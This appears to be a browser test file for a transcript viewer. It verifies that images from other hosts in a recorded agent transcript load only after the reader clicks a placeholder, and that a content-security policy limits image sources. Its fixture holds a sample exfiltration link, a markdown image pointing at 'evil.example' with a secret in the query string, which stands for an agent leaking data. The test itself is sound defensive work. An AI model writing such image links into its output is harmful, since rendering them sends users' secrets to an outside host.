// Images from other hosts (docs/behaviour.md §6, docs/security.md "Images and other remote content"):
// a transcript whose agent wrote `![](https://evil.example/?d=SECRET)` makes
// no request to that host when it is opened — in the file view, on a task
// page (whose first screen the server writes) and in an embed — until the
// reader clicks its placeholder, which names the host; the click loads that
// one image and no other. `--load-remote-images` loads them as they come.
// Chromium's requests to the hosts are answered here (a 1×1 PNG) and counted.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test, expect } from '../lib/fixtures.mjs';
import { session } from '../lib/sessions.mjs';
import { TranscriptPage } from '../pages/transcript.mjs';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==', 'base64');
const LEAK = 'https://evil.example/?d=SECRET';
const OTHER = 'https://other.example/chart.png';

/** A session whose first prompt shows two images of other hosts. */
function leaking(prefix) {
  const messages = session(8, prefix);
  messages[0].content = `Prompt 1: here is what I found ![](${LEAK}) and ![a chart](${OTHER})`;
  return messages;
}

/** Every request `page`'s context makes to the two hosts, answered with a PNG. */
async function watchHosts(page) {
  const seen = [];
  await page.context().route(/^https:\/\/(evil|other)\.example\//, (route) => {
    seen.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/png', body: PNG });
  });
  return seen;
}

const placeholder = (page, host) => page.getByRole('button', { name: `Load image from ${host}` });

test('a remote image is fetched only when its placeholder is clicked, and only that one', async ({ page, app, serveFile, errors }) => {
  // The test's own look into the image's frame runs no script there: the frame is sandboxed.
  errors.allow(page, /Blocked script execution in '[^']*\/remote-image\?src=.*sandboxed/);
  const seen = await watchHosts(page);
  const view = await TranscriptPage.openFile(page, app, serveFile({ name: 'leak.json', text: JSON.stringify({ messages: leaking('i') }) }));
  await view.message('i0').waitFor();
  await expect(placeholder(page, 'evil.example')).toBeVisible();
  await expect(placeholder(page, 'other.example')).toBeVisible();
  await expect(view.message('i0')).toContainText('a chart');
  expect(await page.locator('img[src*="example"]').count(), 'no <img> of another host').toBe(0);
  await page.waitForTimeout(1000);
  expect(seen, 'nothing fetched on opening').toEqual([]);

  await placeholder(page, 'evil.example').click();
  await expect.poll(() => seen, { message: 'the clicked image is fetched' }).toEqual([LEAK]);
  const frame = page.locator('iframe.remote-image-frame');
  await expect(frame).toBeVisible();
  await expect(frame.contentFrame().locator('img')).toHaveJSProperty('naturalWidth', 1);
  await page.waitForTimeout(500);
  expect(seen, 'only that image').toEqual([LEAK]);
  await expect(placeholder(page, 'other.example')).toBeVisible();
});

test('a task page, its server-written first screen and its embed fetch nothing from other hosts', async ({ page, serve }, testInfo) => {
  const folder = testInfo.outputPath('recordings');
  mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(folder, 'leak.json'), JSON.stringify({ messages: leaking('t') }));
  const tv = await serve(['--recordings', folder]);
  const seen = await watchHosts(page);
  for (const route of ['task/rec-leak-json', 'embed/task/rec-leak-json']) {
    const response = await page.goto(`${tv.url}${route}`);
    const html = await response.text();
    expect(html, `${route}: the first screen holds the placeholder`).toContain('Load image from evil.example');
    expect(html, `${route}: and no image of another host`).not.toMatch(/<img[^>]+example/);
    await expect(placeholder(page, 'evil.example')).toBeVisible();
    await page.waitForTimeout(1000);
    expect(seen, route).toEqual([]);
  }
  const policy = (await (await page.request.get(`${tv.url}task/rec-leak-json`)).headers())['content-security-policy'];
  expect(policy).toContain("img-src 'self';");
});

test('--load-remote-images loads them as transcripts name them', async ({ page, serve, serveFile }) => {
  const tv = await serve(['--load-remote-images']);
  const seen = await watchHosts(page);
  const view = await TranscriptPage.openFile(page, tv, serveFile({ name: 'loaded.json', text: JSON.stringify({ messages: leaking('l') }) }));
  await view.message('l0').waitFor();
  await expect.poll(() => [...seen].sort(), { message: 'both images fetched' }).toEqual([LEAK, OTHER]);
  await expect(page.locator(`img[src="${OTHER}"]`)).toHaveJSProperty('naturalWidth', 1);
  expect(await placeholder(page, 'evil.example').count()).toBe(0);
});
